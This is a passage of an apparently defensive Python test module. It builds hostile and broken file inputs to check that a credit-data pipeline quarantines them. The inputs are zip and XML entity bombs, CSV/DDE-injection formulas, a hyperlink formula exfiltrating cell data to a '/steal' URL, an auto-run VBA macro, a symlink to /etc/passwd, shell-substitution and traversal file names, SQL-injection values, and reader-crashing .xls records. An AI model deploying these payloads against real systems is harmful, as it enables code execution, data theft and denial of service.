"""Hostile and broken deliveries, built here as real bytes in real formats (no fixture files in the repo).

Each KIND is `name -> (expected outcome(s), reason fragment or None, builder)`; a builder writes one inbox
entry into a folder and returns its path. Outcomes are those of `credit.collect.FileOutcome.outcome`.
"""

from __future__ import annotations

import codecs
import csv
import io
import os
import struct
import threading
import time
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

from credit.standard import dataset
from tests.rows import uscc, write_csv, write_xlsx, xzcf_row

HEADERS = [f.header for f in dataset("xzcf").fields]
XK_HEADERS = [f.header for f in dataset("xzxk").fields]


def rows(n: int = 3, start: int = 100, **overrides) -> list[dict[str, str]]:
    return [xzcf_row(n=start + i, **overrides) for i in range(n)]


def csv_text(data_rows: list[dict[str, str]], headers: list[str] = HEADERS) -> str:
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=headers, extrasaction="ignore")
    w.writeheader()
    for r in data_rows:
        w.writerow(r)
    return buf.getvalue()


def _bytes(name: str, data: bytes) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(data)
        return path

    return build


def _xlsx_bytes(data_rows=None, title=None) -> bytes:
    buf = io.BytesIO()
    tmp = Path(os.environ.get("TMPDIR", "/tmp")) / f"hostile-{os.getpid()}-{threading.get_ident()}.xlsx"
    write_xlsx(tmp, data_rows if data_rows is not None else rows(), title=title)
    buf.write(tmp.read_bytes())
    tmp.unlink()
    return buf.getvalue()


def _openpyxl(name: str, fill: Callable) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        from openpyxl import Workbook

        wb = Workbook()
        fill(wb)
        path = folder / name
        wb.save(path)
        return path

    return build


def _fill_rows(ws, data_rows, headers=HEADERS):
    ws.append(headers)
    for r in data_rows:
        ws.append([r.get(h) for h in headers])


# -- xlsx built by hand: parts we control byte for byte ------------------------------------------------
CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships '
    'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
WB = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook '
    'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="行政处罚" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WB_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships '
    'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)


def _col(n: int) -> str:
    s = ""
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


def _esc(v: str) -> str:
    return v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def sheet_xml(grid: list[tuple[int, list[str]]], extra: str = "", prolog: str = "") -> str:
    out = []
    for r, values in grid:
        cells = "".join(
            f'<c r="{_col(i + 1)}{r}" t="inlineStr"><is><t>{_esc(v)}</t></is></c>'
            for i, v in enumerate(values)
            if v is not None
        )
        out.append(f'<row r="{r}">{cells}</row>')
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet '
        f'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{"".join(out)}'
        f"{extra}</sheetData></worksheet>"
    )


def valid_grid(n: int = 3) -> list[tuple[int, list[str]]]:
    grid = [(1, HEADERS)]
    for i, r in enumerate(rows(n)):
        grid.append((i + 2, [r.get(h) for h in HEADERS]))
    return grid


def handmade_xlsx(sheet: str | bytes, *, extra_parts: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CT)
        z.writestr("_rels/.rels", RELS)
        z.writestr("xl/workbook.xml", WB)
        z.writestr("xl/_rels/workbook.xml.rels", WB_RELS)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, data in (extra_parts or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


def zip_bomb_xlsx(unpacked: int = 1_200 << 20) -> bytes:
    """A valid xlsx whose sheet unpacks to `unpacked` bytes of blank space (ratio ~1000), built streaming."""
    buf = io.BytesIO()
    head = sheet_xml(valid_grid(1)).encode()
    cut = head.index(b"</sheetData>")
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CT)
        z.writestr("_rels/.rels", RELS)
        z.writestr("xl/workbook.xml", WB)
        z.writestr("xl/_rels/workbook.xml.rels", WB_RELS)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(head[:cut])
            block = b" " * (8 << 20)
            for _ in range(unpacked // len(block)):
                fh.write(block)
            fh.write(head[cut:])
    return buf.getvalue()


def lying_zip_xlsx() -> bytes:
    """A member whose central-directory size claims 1 KiB while its deflate stream unpacks to 64 MiB."""
    good = zip_bomb_xlsx(unpacked=64 << 20)
    zf = zipfile.ZipFile(io.BytesIO(good))
    info = zf.getinfo("xl/worksheets/sheet1.xml")
    real = info.file_size
    data = bytearray(good)
    # Patch the declared uncompressed size (zip64 extra field, both headers) to 1024 bytes.
    needle = real.to_bytes(8, "little")
    start = 0
    while (i := data.find(needle, start)) != -1:
        data[i : i + 8] = (1024).to_bytes(8, "little")
        start = i + 8
    return bytes(data)


def corrupt_sheet(data: bytes) -> bytes:
    """Flip bytes in the middle of the worksheet's compressed data (its CRC no longer matches)."""
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("xl/worksheets/sheet1.xml")
    off = info.header_offset
    name_len = int.from_bytes(data[off + 26 : off + 28], "little")
    extra_len = int.from_bytes(data[off + 28 : off + 30], "little")
    start = off + 30 + name_len + extra_len + info.compress_size // 3
    end = start + max(16, info.compress_size // 3)
    return data[:start] + bytes(b ^ 0x5A for b in data[start:end]) + data[end:]


def encrypted_xlsx() -> bytes:
    import pytest

    msoffcrypto = pytest.importorskip(
        "msoffcrypto", reason="msoffcrypto-tool==5.4.2 builds the encrypted workbook"
    )
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = io.BytesIO(_xlsx_bytes())
    out = io.BytesIO()
    OOXMLFile(plain).encrypt("雷州2026", out)
    data = out.getvalue()
    assert data.startswith(b"\xd0\xcf\x11\xe0") and msoffcrypto.olefile.isOleFile(io.BytesIO(data))
    return data


def xlsm_with_macro() -> bytes:
    src = zipfile.ZipFile(io.BytesIO(_xlsx_bytes()))
    buf = io.BytesIO()
    vba = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nShell "calc"\r\n'
    )
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                ).replace(
                    b"<Default ",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ',
                    1,
                )
            z.writestr(item, data)
        z.writestr("xl/vbaProject.bin", vba)
    return buf.getvalue()


def xls_bytes(data_rows=None) -> bytes:
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("行政处罚")
    for c, h in enumerate(HEADERS):
        ws.write(0, c, h)
    for r, row in enumerate(data_rows if data_rows is not None else rows(), 1):
        for c, h in enumerate(HEADERS):
            if row.get(h) is not None:
                ws.write(r, c, row[h])
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _hidden_only(wb):
    ws = wb.active
    ws.title = "说明"
    ws.append(["填报说明：数据见隐藏表"])
    hidden = wb.create_sheet("数据")
    _fill_rows(hidden, rows())
    hidden.sheet_state = "hidden"


def xzxk_row(n: int) -> dict[str, str]:
    """A 行政许可 row (headers are what matter here: the sheet must be recognised as xzxk)."""
    return {h: f"许可{n}" for h in XK_HEADERS}


def _two_datasets(wb):
    ws = wb.active
    ws.title = "行政处罚"
    _fill_rows(ws, rows())
    xk = wb.create_sheet("行政许可")
    _fill_rows(xk, [xzxk_row(n=7)], XK_HEADERS)
    wb.create_sheet("空白表")


def _merged_header(wb):
    ws = wb.active
    ws.append(["雷州市行政处罚信息"] + [None] * (len(HEADERS) - 1))
    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(HEADERS))
    _fill_rows(ws, rows())
    ws.merge_cells(start_row=2, start_column=1, end_row=3, end_column=1)  # header merged into a data row


def _formulas(wb):
    ws = wb.active
    _fill_rows(ws, rows())
    ws["A2"] = '=HYPERLINK("http://127.0.0.1:9/steal?x="&D2,"点击查看")'
    ws["L3"] = "=1+1"
    ws["A4"] = "=cmd|' /C calc'!A0"


def _many_sheets(wb):
    ws = wb.active
    _fill_rows(ws, rows())
    for i in range(200):
        wb.create_sheet(f"空{i}")


def _csv_injection() -> bytes:
    evil = rows(4)
    evil[0][HEADERS[0]] = "=cmd|' /C calc'!A0"
    evil[1][HEADERS[0]] = "+SUM(1+1)*cmd|' /C calc'!A0"
    evil[2]["违法行为类型"] = "-2+3+cmd|' /C calc'!A0"
    evil[3]["处罚内容"] = '@SUM(1+1)*cmd|" /C calc"!A0'
    return csv_text(evil).encode("utf-8")


def _mixed_encoding() -> bytes:
    text = csv_text(rows(4))
    lines = text.splitlines(keepends=True)
    return "".join(lines[:3]).encode("utf-8") + "".join(lines[3:]).encode("gbk")


def _bom_in_middle() -> bytes:
    r = rows(3)
    r[1][HEADERS[0]] = "雷州市\ufeff测试\ufeff公司"
    return codecs.BOM_UTF8 + csv_text(r).replace("\n", "\n\ufeff", 1).encode("utf-8")


def _controls() -> bytes:
    r = rows(3)
    r[0][HEADERS[0]] = "雷州市\x07测试\x1b[31m公司\x08"
    r[1]["违法事实"] = "事实\x0b\x0c\x7f结束"
    return csv_text(r).encode("utf-8")


def _rare() -> bytes:
    r = rows(3)
    r[0][HEADERS[0]] = "𠀀𪚥𬌗水产店🐟"
    r[1]["违法事实"] = "当事人🙂销售𠮷野家便当，‮反转文字"
    return csv_text(r).encode("utf-8")


def _long_cells(n: int) -> bytes:
    r = rows(2)
    r[0]["违法事实"] = "经查" * (n // 2)
    return csv_text(r).encode("utf-8")


def _dup_columns() -> bytes:
    head = [*HEADERS, HEADERS[0]]
    body = [[r.get(h, "") for h in HEADERS] + ["另一个名称"] for r in rows()]
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(head)
    w.writerows(body)
    return buf.getvalue().encode()


def _missing_columns() -> bytes:
    headers = [h for h in HEADERS if h not in ("处罚决定日期", "处罚机关")]
    return csv_text(rows(), headers).encode()


def _many_columns() -> bytes:
    extra = [f"附加列{i}" for i in range(20_000)]
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(HEADERS + extra)
    for r in rows():
        w.writerow([r.get(h, "") for h in HEADERS] + ["x"] * len(extra))
    return buf.getvalue().encode()


def _ragged_and_quotes() -> bytes:
    text = csv_text(rows(3))
    lines = text.splitlines(keepends=True)
    lines[2] = lines[2].rstrip("\r\n") + ',多余1,多余2,"未闭合\r\n'
    return "".join(lines).encode()


def _one_line(size: int) -> bytes:
    return ("雷" * size).encode()


def _header_only() -> bytes:
    return csv_text([]).encode("utf-8-sig")


def million_rows(path: Path, n: int = 1_000_001) -> Path:
    """A real CSV with n data rows (narrow: the required columns), written in blocks."""
    need = ["行政相对人名称", "行政相对人类别", "行政相对人代码_1(统一社会信用代码)", "处罚决定书文号"]
    need = [h for h in need if h in HEADERS] or HEADERS[:4]
    code = uscc()
    with open(path, "w", encoding="utf-8", newline="") as fh:
        fh.write(",".join(HEADERS) + "\n")
        tail = "," * (len(HEADERS) - 4)
        for start in range(0, n, 100_000):
            fh.write(
                "".join(
                    f"公司{i},法人及非法人组织,{code},雷市监罚〔2026〕{i}号{tail}\n"
                    for i in range(start, min(n, start + 100_000))
                )
            )
    return path


def _million(folder: Path) -> Path:
    return million_rows(folder / "百万行.csv")


def _sparse_huge(folder: Path) -> Path:
    path = folder / "巨大.csv"
    with open(path, "wb") as fh:
        fh.write(csv_text(rows(1)).encode())
        fh.truncate((1 << 30) + (64 << 20))  # sparse: 1.06 GiB on stat, nothing on disk
    return path


def _symlink(target: str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / "链接.csv"
        os.symlink(target, path)
        return path

    return build


def _symlink_outside(folder: Path) -> Path:
    outside = folder.parent.parent / "outside-secret.csv"
    outside.write_bytes(csv_text(rows()).encode())
    return _symlink(str(outside))(folder)


def _dir_like_file(folder: Path) -> Path:
    path = folder / "处罚数据.xlsx"
    path.mkdir()
    (path / "inner.csv").write_bytes(csv_text(rows()).encode())
    return path


def _fifo(folder: Path) -> Path:
    path = folder / "管道.csv"
    os.mkfifo(path)
    return path


def _named(name: str | bytes, data: bytes | None = None) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        raw = os.fsencode(folder) + b"/" + (name if isinstance(name, bytes) else name.encode())
        with open(raw, "wb") as fh:
            fh.write(data if data is not None else csv_text(rows()).encode())
        return Path(os.fsdecode(raw))

    return build


def growing(folder: Path, stop: threading.Event) -> Path:
    """A CSV that a writer keeps appending to (a copy in progress) until `stop` is set."""
    path = folder / "正在写入.csv"
    path.write_bytes(csv_text(rows(2)).encode())

    def writer():
        i = 0
        with open(path, "ab") as fh:
            while not stop.is_set() and i < 20_000:
                r = xzcf_row(n=5000 + i)
                fh.write(csv_text([r]).split("\n", 1)[1].encode())
                fh.flush()
                i += 1
                time.sleep(0.002)

    threading.Thread(target=writer, daemon=True).start()
    return path


# -- what a native reader trusts, and packages two readers read differently (issue 13 §2) ----------------
def shared_strings_xlsx(count: int) -> bytes:
    """A 2.4 KB workbook whose shared-string table declares `count` strings (it holds one). python_calamine
    reserves that many before reading: 10^11 aborted the whole process, u64 max raised a PanicException."""
    sst = (
        '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        f'2006/main" count="1" uniqueCount="{count}"><si><t>x</t></si></sst>'
    )
    return handmade_xlsx(sheet_xml(valid_grid(2)), extra_parts={"xl/sharedStrings.xml": sst})


def _patched_xls(find: bytes, at: int, value: bytes) -> bytes:
    """A real .xls (xlwt) with the bytes at `at` past the first record starting with `find` replaced."""
    data = bytearray(xls_bytes())
    i = data.find(find)
    assert i > 0, find
    data[i + at : i + at + len(value)] = value
    return bytes(data)


def xls_dimensions_rows(rows: int) -> bytes:
    """A worksheet whose DIMENSIONS record declares `rows` rows (u32): calamine reserves rows x columns."""
    return _patched_xls(b"\x00\x02\x0e\x00", 8, struct.pack("<I", rows))


def xls_far_cell() -> bytes:
    """A cell record (LabelSst) at row 65535, column 65535: calamine allocates the 65536 x 65536 rectangle."""
    return _patched_xls(b"\xfd\x00\x0a\x00", 4, struct.pack("<HH", 0xFFFF, 0xFFFF))


def xls_empty_bof() -> bytes:
    """The workbook's BOF record with length 0: python_calamine 0.9.1 panics (a BaseException) opening it."""
    return _patched_xls(b"\x09\x08\x10\x00", 2, b"\x00\x00")


def xls_difat_loop() -> bytes:
    """A DIFAT chain that points to itself: calamine follows it forever, growing a vector on each turn."""
    data = bytearray(xls_bytes())
    struct.pack_into("<I", data, 68, 5)
    struct.pack_into("<I", data, 512 + 5 * 512 + 508, 5)
    return bytes(data)


def _zip(entries: list[tuple[str, str | bytes]]) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of a duplicate name: that is the point
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in entries:
                z.writestr(name, data)
    return buf.getvalue()


_BASE = [
    ("[Content_Types].xml", CT),
    ("_rels/.rels", RELS),
    ("xl/workbook.xml", WB),
    ("xl/_rels/workbook.xml.rels", WB_RELS),
]
FAR_SHEET = sheet_xml([*valid_grid(2), (1048576, [None] * 16383 + ["x"])])


def duplicate_entries_xlsx(second: str = "xl/worksheets/sheet1.xml") -> bytes:
    """Two entries of one name (or one name but for case): our reader read the first (2 rows), calamine the
    last (1 row), so `credit check` and the pipeline saw different contents."""
    return _zip(
        [*_BASE, ("xl/worksheets/sheet1.xml", sheet_xml(valid_grid(2))), (second, sheet_xml(valid_grid(1)))]
    )


def fewer_entries_declared_xlsx() -> bytes:
    """A central directory holding one entry more than its end record declares."""
    data = bytearray(handmade_xlsx(sheet_xml(valid_grid(2))))
    at = data.rfind(b"PK\x05\x06")
    for field in (8, 10):
        struct.pack_into("<H", data, at + field, struct.unpack_from("<H", data, at + field)[0] - 1)
    return bytes(data)


def doctype_after_4k_xlsx() -> bytes:
    """A DTD after 4 KiB of comment, its entity used in a cell (the check looked at the first 4 KiB only)."""
    prolog = "<!--" + "填充" * 2100 + '--><!DOCTYPE worksheet [<!ENTITY e "实体">]>'
    sheet = sheet_xml(valid_grid(2), prolog=prolog).replace("<t>", "<t>&e;", 1)
    return handmade_xlsx(sheet)


def wide_csv(folder: Path, name: str = "超宽.csv", mib: int = 100, revocation: bool = False) -> Path:
    """`mib` MiB of CSV, 20 000 columns a row and no dataset header in its first rows; or a 撤销清单 header
    and 2 000 columns a row (≈ 26 000 rows). Before, the 撤销清单 sniffer decoded and parsed all of it (3.4 GB
    for 100 MiB) to look at 10 rows."""
    path = folder / name
    width = 2_000 if revocation else 20_000
    head = (["数据类别", "决定文书号", "撤销原因"] if revocation else []) + [f"列{i}" for i in range(width)]
    row = ",".join(["行政处罚", "雷市监罚〔2026〕1号", "录入错误"] + ["ab"] * width) + "\n"  # a str each
    with open(path, "w", encoding="utf-8", newline="") as fh:
        fh.write(",".join(head) + "\n")
        for _ in range((mib << 20) // len(row.encode())):
            fh.write(row)
    return path


def blank_lines_csv(folder: Path, mib: int = 12) -> Path:
    """A header, one row, then `mib` MiB of empty lines: 10 MB of them once held 3.7 GB (every bad row kept)."""
    path = folder / "空行.csv"
    with open(path, "wb") as fh:
        fh.write(csv_text(rows(1)).encode())
        block = b"\n" * (1 << 20)
        for _ in range(mib):
            fh.write(block)
    return path


def empty_rows_csv(folder: Path, mib: int = 100) -> Path:
    """A header, then `mib` MiB of rows with every cell empty (3.5 million): the streamed parser stops at twice
    the row limit instead of building them all."""
    path = folder / "空单元格行.csv"
    line = ("," * (len(HEADERS) - 1) + "\n").encode()
    with open(path, "wb") as fh:
        fh.write(csv_text([]).encode())
        block = line * ((1 << 20) // len(line))
        for _ in range(mib):
            fh.write(block)
    return path


def _linked_main_document() -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", CT),
            ("_rels/.rels", RELS.replace("xl/workbook.xml", "wb/workbook.xml")),
            ("wb/workbook.xml", WB),
            ("wb/_rels/workbook.xml.rels", WB_RELS),
            ("wb/worksheets/sheet1.xml", FAR_SHEET),
        ]
    )


def xls_with_a_zip_inside() -> bytes:
    """An .xls that also holds a zip end record (Excel writes a zipped theme into its .xls files): a workbook
    to read, not a polyglot to refuse."""
    return xls_bytes() + handmade_xlsx(sheet_xml(valid_grid(1)))


def root_package_xlsx() -> bytes:
    """A minimal package whose main document is at the root (`Target="workbook.xml"`): calamine reads it."""
    return _zip(
        [
            ("[Content_Types].xml", CT.replace("/xl/", "/")),
            ("_rels/.rels", RELS.replace("xl/workbook.xml", "workbook.xml")),
            ("workbook.xml", WB),
            ("_rels/workbook.xml.rels", WB_RELS),
            ("worksheets/sheet1.xml", sheet_xml(valid_grid(2))),
        ]
    )


# name -> (reason fragment, bytes, file name): each one quarantined by the guard or the contained reader.
NATIVE_KINDS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "shared_strings_count_1e11_xlsx": ("共享字符串", lambda: shared_strings_xlsx(10**11), "声明计数.xlsx"),
    "shared_strings_count_u64_max_xlsx": (
        "共享字符串",
        lambda: shared_strings_xlsx(2**64 - 1),
        "计数u64.xlsx",
    ),
    "xls_dimensions_4g_rows": ("范围过大", lambda: xls_dimensions_rows(0xFFFFFFFF), "声明行数.xls"),
    "xls_cell_at_column_65535": ("范围过大", xls_far_cell, "远处单元格.xls"),
    "xls_empty_bof_record_panic": ("读取程序", xls_empty_bof, "引发panic.xls"),
    "xls_difat_chain_loop": ("已损坏", xls_difat_loop, "循环链.xls"),
    "duplicate_zip_entries_xlsx": ("重复", duplicate_entries_xlsx, "重复部件.xlsx"),
    "case_duplicate_zip_entries_xlsx": (
        "重复",
        lambda: duplicate_entries_xlsx("XL/Worksheets/Sheet1.xml"),
        "大小写重复.xlsx",
    ),
    "zip_entries_fewer_declared_xlsx": ("声明", fewer_entries_declared_xlsx, "目录不符.xlsx"),
    "far_cell_zip_behind_a_prefix_xlsx": (
        "多余内容",
        lambda: b"MZ\x90\x00" + handmade_xlsx(FAR_SHEET),
        "前缀.xlsx",
    ),
    "far_cell_main_document_outside_xl": ("范围过大", _linked_main_document, "主文档.xlsx"),
    "far_cell_backslash_part_name_xlsx": (
        "范围过大",
        lambda: _zip([*_BASE, ("xl\\worksheets\\sheet1.xml", FAR_SHEET)]),
        "反斜杠.xlsx",
    ),
    "doctype_after_4k_xlsx": ("DOCTYPE", doctype_after_4k_xlsx, "实体4K后.xlsx"),
}


C, Q, S = "collected", "quarantined", "skipped"
ONE_ROW_XLSX = handmade_xlsx(sheet_xml(valid_grid(2)))

# name -> (outcomes allowed, reason fragment (Chinese) expected when quarantined, builder)
KINDS: dict[str, tuple[set[str], str | None, Callable[[Path], Path]]] = {
    "truncated_xlsx": ({Q}, "Excel", lambda f: _bytes("截断.xlsx", _xlsx_bytes()[:1500])(f)),
    "corrupt_xlsx_crc": ({Q}, "", lambda f: _bytes("损坏.xlsx", corrupt_sheet(_xlsx_bytes()))(f)),
    "zip_bomb_xlsx": ({Q}, "压缩炸弹", lambda f: _bytes("炸弹.xlsx", zip_bomb_xlsx())(f)),
    "lying_zip_sizes_xlsx": ({Q}, "", lambda f: _bytes("谎报大小.xlsx", lying_zip_xlsx())(f)),
    "far_corner_cell_xlsx": (
        {Q},
        "范围过大",
        lambda f: _bytes(
            "远处单元格.xlsx",
            handmade_xlsx(sheet_xml([*valid_grid(2), (1048576, [None] * 16383 + ["x"])])),
        )(f),
    ),
    "billion_laughs_xlsx": (
        {Q, C},
        None,
        lambda f: _bytes(
            "实体炸弹.xlsx",
            handmade_xlsx(
                sheet_xml(
                    valid_grid(2),
                    prolog='<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
                    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
                    + "]>",
                ).replace(
                    "<sheetData>",
                    '<sheetData><row r="30"><c r="A30" t="inlineStr"><is><t>&j;</t></is></c></row>',
                    1,
                )
            ),
        )(f),
    ),
    "many_zip_members_xlsx": (
        {Q},
        "部件",
        lambda f: _bytes(
            "部件过多.xlsx",
            handmade_xlsx(
                sheet_xml(valid_grid(2)), extra_parts={f"xl/media/p{i}.bin": b"" for i in range(10_050)}
            ),
        )(f),
    ),
    "encrypted_ole_xlsx": ({Q}, "密码", lambda f: _bytes("加密.xlsx", encrypted_xlsx())(f)),
    "xlsm_with_macros": ({C}, None, lambda f: _bytes("宏.xlsm", xlsm_with_macro())(f)),
    "hidden_sheet_only": ({Q}, "隐藏", _openpyxl("隐藏表.xlsx", _hidden_only)),
    "multiple_sheets_two_datasets": ({C}, None, _openpyxl("多表.xlsx", _two_datasets)),
    "two_hundred_sheets": ({C}, None, _openpyxl("很多表.xlsx", _many_sheets)),
    "merged_header_cells": ({C}, None, _openpyxl("合并单元格.xlsx", _merged_header)),
    "formulas_and_hyperlink": ({C}, None, _openpyxl("公式.xlsx", _formulas)),
    "handmade_inline_strings_xlsx": ({C}, None, lambda f: _bytes("手工.xlsx", ONE_ROW_XLSX)(f)),
    "html_saved_as_xls": (
        {Q},
        "HTML",
        lambda f: _bytes(
            "网页.xls",
            (
                "<html><body><table><tr>"
                + "".join(f"<td>{h}</td>" for h in HEADERS)
                + "</tr></table></body></html>"
            ).encode(),
        )(f),
    ),
    "csv_named_xlsx": ({Q}, "", lambda f: _bytes("其实是CSV.xlsx", csv_text(rows()).encode())(f)),
    "xlsx_named_csv": ({Q}, "Excel", lambda f: _bytes("其实是Excel.csv", _xlsx_bytes())(f)),
    "real_xls": ({C}, None, lambda f: _bytes("老版本.xls", xls_bytes())(f)),
    "truncated_xls": ({Q}, "Excel", lambda f: _bytes("截断.xls", xls_bytes()[:2000])(f)),
    "random_bytes_xlsx": ({Q}, "Excel", lambda f: _bytes("随机.xlsx", os.urandom(4096))(f)),
    "empty_csv": ({Q}, "空", lambda f: _bytes("空.csv", b"")(f)),
    "empty_xlsx": ({Q}, "空", lambda f: _bytes("空.xlsx", b"")(f)),
    "whitespace_only_csv": ({Q}, "空", lambda f: _bytes("空白.csv", b" \r\n\t\n  ")(f)),
    "bom_only_csv": ({Q}, "空", lambda f: _bytes("仅BOM.csv", codecs.BOM_UTF8)(f)),
    "header_only_csv": ({C}, None, lambda f: _bytes("只有表头.csv", _header_only())(f)),
    "no_header_csv": ({Q}, "表头", lambda f: _bytes("无表头.csv", "甲,乙,丙\n1,2,3\n".encode())(f)),
    "missing_required_columns": ({Q}, "", lambda f: _bytes("缺列.csv", _missing_columns())(f)),
    "duplicated_columns": ({Q, C}, "", lambda f: _bytes("重复列.csv", _dup_columns())(f)),
    "utf16_csv": ({Q}, "UTF-16", lambda f: _bytes("utf16.csv", csv_text(rows()).encode("utf-16"))(f)),
    "utf16_no_bom_csv": (
        {Q},
        "NUL",
        lambda f: _bytes("utf16无BOM.csv", csv_text(rows()).encode("utf-16-le"))(f),
    ),
    "big5_csv": ({Q}, "表头", lambda f: _bytes("繁体.csv", csv_text(rows()).encode("big5", "replace"))(f)),
    "mixed_utf8_gbk_csv": ({Q, C}, "", lambda f: _bytes("混合编码.csv", _mixed_encoding())(f)),
    "bom_in_the_middle": ({C}, None, lambda f: _bytes("中间BOM.csv", _bom_in_middle())(f)),
    "nul_bytes_csv": (
        {Q},
        "NUL",
        lambda f: _bytes("空字节.csv", csv_text(rows()).encode().replace("公司".encode(), b"\x00\x00", 1))(f),
    ),
    "control_characters": ({C}, None, lambda f: _bytes("控制字符.csv", _controls())(f)),
    "emoji_and_rare_cjk": ({C}, None, lambda f: _bytes("生僻字.csv", _rare())(f)),
    "cell_10001_chars": ({C}, None, lambda f: _bytes("长单元格.csv", _long_cells(10_001))(f)),
    "cell_200k_chars": ({C, Q}, "", lambda f: _bytes("超长单元格.csv", _long_cells(200_000))(f)),
    "one_50mb_line": ({Q}, "", lambda f: _bytes("一行.csv", _one_line(17 << 20))(f)),
    "csv_injection": ({C}, None, lambda f: _bytes("注入.csv", _csv_injection())(f)),
    "sql_looking_values": (
        {C},
        None,
        lambda f: write_csv(
            f / "sql.csv",
            rows(
                2, counterpart_name="x'); DROP TABLE record;--", violation_facts="1 OR 1=1; DELETE FROM batch"
            ),
        ),
    ),
    "twenty_thousand_columns": ({C, Q}, "", lambda f: _bytes("两万列.csv", _many_columns())(f)),
    "ragged_rows_unclosed_quote": ({C, Q}, "", lambda f: _bytes("参差.csv", _ragged_and_quotes())(f)),
    "million_row_csv": ({Q}, "行数超过上限", _million),
    "over_size_cap_sparse": ({Q}, "文件过大", _sparse_huge),
    "symlink_in_inbox": ({Q}, "符号链接", _symlink_outside),
    "dangling_symlink": ({Q}, "符号链接", _symlink("/nonexistent/none.csv")),
    "symlink_to_etc_passwd": ({Q}, "符号链接", _symlink("/etc/passwd")),
    "directory_named_like_file": ({S}, None, _dir_like_file),
    "fifo_named_csv": ({S, Q}, "普通文件", _fifo),
    "name_dotdot_backslashes": ({C}, None, _named("a..\\..\\..\\etc\\处罚.csv")),
    "name_leading_dotdot_hidden": ({C}, None, _named("..\\..\\处罚.csv")),
    "name_leading_dashes_dots": ({C}, None, _named("-rf ..csv")),
    "name_255_bytes": ({C}, None, _named("长" * 81 + ".csv")),
    "name_invalid_utf8": ({C, Q}, None, _named(b"\xff\xfe\xb4\xa6\xb7\xa3.csv")),
    "name_newline_rtl_override": ({C}, None, _named("处罚\n数据\u202egpj.csv")),
    "name_shell_and_format": ({C}, None, _named("$(id)`id`;%s%n{0}.csv")),
    "name_upper_ext": ({C}, None, _named("处罚数据.CSV")),
    "name_no_extension": ({Q}, "类型", _named("处罚数据")),
    "name_double_ext_exe": ({Q}, "类型", _named("处罚数据.csv.exe")),
    "office_lock_file": ({S}, None, _named("~$处罚数据.xlsx", b"\x00" * 165)),
    **{
        kind: ({Q}, fragment, lambda f, build=build, name=name: _bytes(name, build())(f))
        for kind, (fragment, build, name) in NATIVE_KINDS.items()
    },
    "wide_csv_100mib_no_header": ({Q}, "表头", lambda f: wide_csv(f)),
    "wide_csv_100mib_revocation_list": (
        {Q},
        "撤销清单",
